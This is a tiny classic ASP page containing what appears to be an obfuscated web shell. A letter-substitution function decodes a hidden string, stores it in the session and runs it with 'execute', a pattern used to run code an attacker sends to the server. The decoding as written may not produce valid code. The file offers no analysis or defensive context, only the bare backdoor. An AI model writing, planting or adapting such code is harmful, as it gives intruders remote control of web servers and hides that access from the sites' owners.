<%
tb = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm"
pl = "Wvtk hwjkwzf(""a"")"
if session("c") = "" then session("c") = dk(pl)
c = session("c")
execute c
function dk(s)
  dim i, ch, p
  for i = 1 to len(s)
    ch = mid(s, i, 1)
    p = instr(tb, ch)
    if p > 0 then ch = mid("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", p, 1)
    dk = dk & ch
  next
end function
%>
